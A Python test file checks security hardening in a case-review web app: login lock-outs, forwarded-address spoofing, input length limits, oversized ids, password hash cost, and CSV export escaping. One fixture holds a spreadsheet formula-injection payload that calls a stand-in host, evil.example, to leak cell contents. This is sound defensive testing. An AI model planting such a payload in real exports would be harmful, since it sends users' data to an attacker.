"""The review app under attack: log-in lock-outs that cannot be turned against other accounts, forwarded
addresses only from trusted proxies, bounded free text, ids past the database's integers, spreadsheet
formulas in exports, and the password hash's cost."""

from __future__ import annotations

import base64
import csv
import io
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select

from streetwatch.cases import tables as t
from streetwatch.cases.export import query_cases, to_csv
from streetwatch.cases.review_tables import AuditEvent, LoginAttempt, User
from streetwatch.review.passwords import COST_ENV, hash_password, needs_rehash, verify_password
from tests.reviewkit import PASSWORDS, csrf_of, file_sighting, login_form_token
from tests.test_review_api import Env

pytestmark = pytest.mark.timeout(120)


@pytest.fixture(autouse=True)
def cheap_password_hashes(monkeypatch):
    """Hash at 2^10 instead of 2^17 (0.4 s a hash); the two tests at the end check the real cost."""
    monkeypatch.setenv(COST_ENV, "1024")


@pytest.fixture
def env(tmp_path, sqlite_url) -> Env:
    return Env(tmp_path, sqlite_url)


def try_login(client: TestClient, user: str, password: str | None = None, forwarded: str | None = None):
    token = login_form_token(client)
    headers = {"X-Forwarded-For": forwarded} if forwarded else {}
    return client.post("/login", data={"username": user, "password": password or PASSWORDS[user],
                                       "csrf_token": token}, headers=headers, follow_redirects=False)


def attempts(env: Env) -> list[LoginAttempt]:
    with env.store.session() as ses:
        return list(ses.scalars(select(LoginAttempt).order_by(LoginAttempt.id)))


# log-in lock-out ------------------------------------------------------------------------------------
def test_hammering_one_account_locks_it_not_its_address_and_not_for_longer(tmp_path, sqlite_url):
    """The security trial: 50 wrong passwords for one user from one address (every client behind a reverse
    proxy has the same one). Other users of that address still log in; the lock ends on time."""
    env = Env(tmp_path, sqlite_url, login_max_failures=5)
    client = TestClient(env.app, client=("192.0.2.10", 40000))
    start = env.clock.now
    codes = []
    for _ in range(50):
        codes.append(try_login(client, "alice", "guess-guess").status_code)
        env.clock.now += timedelta(seconds=10)
    assert codes == [401] * 5 + [429] * 45
    assert try_login(TestClient(env.app, client=("192.0.2.10", 40001)), "bob").status_code == 303
    # the lock came from the first five failures: it ends a window after the first, however often she was refused
    env.clock.now = start + timedelta(seconds=env.settings.login_window_s - 1)
    still = try_login(client, "alice")
    assert still.status_code == 429 and 1 <= int(still.headers["retry-after"]) <= 2
    env.clock.now = start + timedelta(seconds=env.settings.login_window_s + 1)
    assert try_login(client, "alice").status_code == 303
    rows = attempts(env)
    assert [r.locked for r in rows if not r.ok] == [False] * 5 + [True] * 46  # every try is on record
    assert {r.ip for r in rows} == {"192.0.2.10"}


def test_one_address_trying_many_accounts_is_locked(tmp_path, sqlite_url):
    env = Env(tmp_path, sqlite_url, login_max_failures=3, login_max_failures_per_address=4)
    client = TestClient(env.app, client=("192.0.2.20", 40000))
    for user in ("alice", "bob", "root", "eve"):
        assert try_login(client, user, "password-1").status_code == 401
    assert try_login(client, "bob").status_code == 429  # right password, locked address
    assert try_login(TestClient(env.app, client=("192.0.2.21", 40000)), "bob").status_code == 303


def test_forwarded_for_is_ignored_unless_the_peer_is_a_trusted_proxy(tmp_path, sqlite_url):
    env = Env(tmp_path, sqlite_url, login_max_failures=3, login_max_failures_per_address=4)
    client = TestClient(env.app, client=("192.0.2.30", 40000))
    for i, user in enumerate(("alice", "bob", "root", "eve")):  # a made-up address each time does not help
        assert try_login(client, user, "password-1", forwarded=f"198.51.100.{i}").status_code == 401
    assert try_login(client, "bob", forwarded="198.51.100.99").status_code == 429
    assert {r.ip for r in attempts(env)} == {"192.0.2.30"}


def test_behind_a_trusted_proxy_each_client_has_its_own_address(tmp_path, sqlite_url):
    env = Env(tmp_path, sqlite_url, login_max_failures=3, login_max_failures_per_address=4,
              trusted_proxies=["10.0.0.0/8"])
    proxy = TestClient(env.app, client=("10.1.2.3", 40000))
    for user in ("alice", "bob", "root", "eve"):
        # the client wrote a fake first hop; the proxy appended the address it really saw
        assert try_login(proxy, user, "password-1", forwarded=f"203.0.113.{len(user)}, 198.51.100.7").status_code \
            == 401
    assert try_login(proxy, "bob", forwarded="198.51.100.7").status_code == 429
    assert try_login(proxy, "bob", forwarded="198.51.100.8, 10.9.9.9").status_code == 303  # two proxies deep
    assert [r.ip for r in attempts(env)] == ["198.51.100.7"] * 5 + ["198.51.100.8"]


# free text, numbers past the database's integers ---------------------------------------------------
def act(client: TestClient, case_id, action: str, **data):
    return client.post(f"/cases/{case_id}/{action}", data=data, follow_redirects=False,
                       headers={"X-CSRF-Token": csrf_of(client), "Accept": "application/json"})


def test_free_text_is_bounded_and_checked_with_a_clear_message(env):
    client = env.client("alice")
    a, b = env.ids[:2]
    version = env.case(a).version
    too_long = act(client, a, "confirm", version=str(version), note="x" * 2001)
    assert too_long.status_code == 422 and too_long.json()["detail"] == "note: at most 2000 characters (got 2001)"
    fits = act(client, a, "confirm", version=str(version), note="kerb blocked\n" + "x" * 1987)
    assert fits.status_code == 200  # 2,000 characters, new lines allowed: kept whole, not cut
    [event] = [h for h in client.get(f"/api/cases/{a}").json()["history"] if h["action"] == "status"]
    assert len(event["detail"]["note"]) == 2000
    refused = [
        ({"reason": "not_the_object" * 20}, "reason: at most 200 characters"),
        ({"reason": "because"}, "reason: 'because' is not one of not_the_object"),
        ({"reason": "not_the_object", "seen": "1" * 300}, "seen: at most 200 characters"),
        ({"reason": "not_the_object", "note": "a\x00b"}, "note: control characters are not allowed"),
        ({"reason": "not_the_object", "sort": "s" * 201}, "sort: at most 200 characters"),
    ]
    for extra, message in refused:
        response = act(client, b, "reject", version=str(env.case(b).version), **extra)
        assert response.status_code == 422 and response.json()["detail"].startswith(message), extra
    assert env.case(b).status == "new"
    html = client.post(f"/cases/{b}/reject", data={"version": env.case(b).version, "reason": "other",
                                                   "note": "n" * 5000, "csrf_token": csrf_of(client)},
                       headers={"Accept": "text/html"})
    assert html.status_code == 422 and "note: at most 2000 characters" in html.text
    login_page = env.client()
    token = login_form_token(login_page)
    long_name = login_page.post("/login", data={"username": "a" * 65, "password": "x", "csrf_token": token})
    assert long_name.status_code == 422 and "user name: at most 64 characters" in long_name.text
    assert login_page.get("/cases", params={"camera": "c" * 201}).status_code == 401  # not logged in: nothing read
    assert client.get("/api/cases", params={"camera": "c" * 201}).json()["detail"].startswith("camera: at most 200")
    root = env.client("root")
    user = root.post("/admin/users", data={"username": "carol", "password": "p" * 1025, "csrf_token": csrf_of(root)})
    assert user.status_code == 422 and "password: at most 1024 characters" in user.json()["detail"]


BIG = "99999999999999999999"


def test_numbers_past_the_database_integers_are_404_or_422_not_500(tmp_path, db_url):
    env = Env(tmp_path, db_url)
    client = env.client("alice")
    a = env.ids[0]
    version = str(env.case(a).version)
    assert client.get(f"/cases/{BIG}").status_code == 404
    assert client.get(f"/api/cases/{BIG}").status_code == 404
    assert client.get(f"/cases/{2**31}").status_code == 404
    assert client.get("/cases", params={"page": "9223372036854775807"}).status_code == 422
    assert client.get("/cases", params={"page": BIG}).status_code == 422
    for action, data in (("confirm", {"version": version}), ("merge", {"version": version, "other": BIG}),
                         ("split", {"version": version, "sighting": "1"}), ("push", {})):
        response = act(client, BIG, action, **data)
        assert response.status_code == 404 and "no such case" in response.json()["detail"], action
    merge = act(client, a, "merge", version=version, other=BIG)
    assert merge.status_code == 404 and merge.json()["detail"] == f"case {BIG}: no such case"
    assert act(client, a, "merge", version=version, other=f"#{2**31}").status_code == 404
    for field, data in (("version", {"version": BIG}), ("seen", {"version": version, "seen": BIG}),
                        ("other_version", {"version": version, "other": str(env.ids[1]), "other_version": BIG})):
        response = act(client, a, "merge" if field == "other_version" else "confirm", **data)
        assert response.status_code == 422 and response.json()["detail"].startswith(f"{field}: "), field
    split = act(client, a, "split", version=version, sighting=BIG)
    assert split.status_code == 404 and "has no sighting" in split.json()["detail"]
    assert env.case(a).status == "new" and env.case(a).version == int(version)


# exports ------------------------------------------------------------------------------------------------
def test_csv_export_cells_never_start_a_formula(tmp_path, sqlite_url):
    env = Env(tmp_path, sqlite_url)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    rec = file_sighting(env.store, env.evidence, "evil", camera_id=evil, lat=-33.9, lon=-70.6, unc=3.0)
    with env.store.sessions.begin() as ses:
        ses.get(t.Case, rec.case_id).zone_id = "@SUM(1+1)"
    others = ["+1 555", "-2+3", "\tcmd", "\rcmd"]
    for i, cam in enumerate(others):
        file_sighting(env.store, env.evidence, f"o{i}", camera_id=cam)
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(env.client("alice").get("/export.csv").text))}
    row = rows[str(rec.case_id)]
    assert row["camera_id"] == "'" + evil and row["zone_id"] == "'@SUM(1+1)"
    assert (row["lat"], row["lon"]) == ("-33.9", "-70.6")  # numbers stay numbers
    assert row["status"] == "new" and not row["first_seen"].startswith("'")
    assert sorted(r["camera_id"] for r in rows.values() if r["camera_id"] != "cam" and r is not row) == sorted(
        "'" + c for c in others)
    cli_rows = list(csv.DictReader(io.StringIO(to_csv(query_cases(env.store)))))  # `streetwatch cases export`
    assert {r["camera_id"] for r in cli_rows} >= {"'" + evil, *("'" + c for c in others)}


# password hashing -------------------------------------------------------------------------------------
def test_new_hashes_use_owasps_scrypt_cost(monkeypatch):
    monkeypatch.delenv(COST_ENV, raising=False)
    stored = hash_password("correct horse battery")
    kind, n, r, p, salt, digest = stored.split("$")
    assert (kind, int(n), int(r), int(p)) == ("scrypt", 2**17, 8, 1)
    assert len(base64.b64decode(salt)) == 16 and len(base64.b64decode(digest)) == 32
    assert verify_password("correct horse battery", stored) and not verify_password("correct horse batter", stored)
    assert not needs_rehash(stored)


def test_a_weaker_stored_hash_is_replaced_at_the_next_log_in(tmp_path, sqlite_url, monkeypatch):
    monkeypatch.setenv(COST_ENV, str(2**14))  # the cost this app used before
    env = Env(tmp_path, sqlite_url)
    monkeypatch.delenv(COST_ENV)

    def stored(user: str) -> str:
        with env.store.session() as ses:
            return ses.scalars(select(User).where(User.username == user)).one().password_hash

    old_alice, old_bob = stored("alice"), stored("bob")
    assert old_alice.startswith("scrypt$16384$8$1$") and needs_rehash(old_alice)
    assert try_login(env.client(), "bob", "not-bobs-password").status_code == 401
    assert stored("bob") == old_bob  # only a correct password may be hashed again
    assert try_login(env.client(), "alice").status_code == 303
    new_alice = stored("alice")
    assert new_alice.startswith("scrypt$131072$8$1$") and verify_password(PASSWORDS["alice"], new_alice)
    assert try_login(env.client(), "alice").status_code == 303  # and the new hash logs her in
    assert stored("alice") == new_alice  # not hashed again once at the current cost
    with env.store.session() as ses:
        audit = [(a.action, a.target) for a in ses.scalars(select(AuditEvent))]
    assert audit.count(("password_rehashed", "alice")) == 1 and ("password_rehashed", "bob") not in audit
